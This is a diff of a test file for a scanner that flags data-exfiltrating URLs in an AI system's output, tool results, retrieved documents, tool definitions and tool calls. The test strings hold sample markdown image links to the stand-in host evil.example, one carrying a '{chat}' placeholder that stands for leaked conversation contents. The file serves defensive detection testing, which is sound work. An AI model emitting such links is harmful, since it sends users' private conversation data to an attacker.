@@ -161,10 +161,12 @@ describe('exfil-url: HTML', () => {
 });
 
 describe('exfil-url: robustness', () => {
-  it('applies to output, tool results and retrieved documents and rejects bad allow-list entries', () => {
-    expect(exfilUrl.stages).toEqual(['output', 'tool_result', 'retrieved']);
+  it('applies to output, tool results, retrieved documents and tool definitions and rejects bad allow-list entries', () => {
+    expect(exfilUrl.stages).toEqual(['output', 'tool_result', 'retrieved', 'tool_definition']);
     expect(exfilUrl.scan('![a](https://evil.example/a.png)', ctx({}, 'retrieved'))[0]?.score).toBe(0.3);
     expect(exfilUrl.scan('![a](https://evil.example/a.png?q={chat})', ctx({}, 'tool_result'))[0]?.score).toBe(0.97);
+    expect(exfilUrl.scan('![a](https://evil.example/a.png)', ctx({}, 'tool_definition'))[0]?.score).toBe(0.3);
+    expect(exfilUrl.scan('![a](https://evil.example/a.png)', ctx({}, 'tool_call'))[0]?.score).toBe(0.9);
     const longLink = `Result: https://www.google.com/url?sa=t&q=&url=https%3A%2F%2Fexample.com&usg=${'AOvVaw'.repeat(50)}`;
     expect(exfilUrl.scan(longLink, ctx({}, 'retrieved'))).toEqual([]);
     expect(exfilUrl.scan(longLink, ctx({}, 'output'))[0]?.ruleId).toBe('exfil-url/link-with-data');
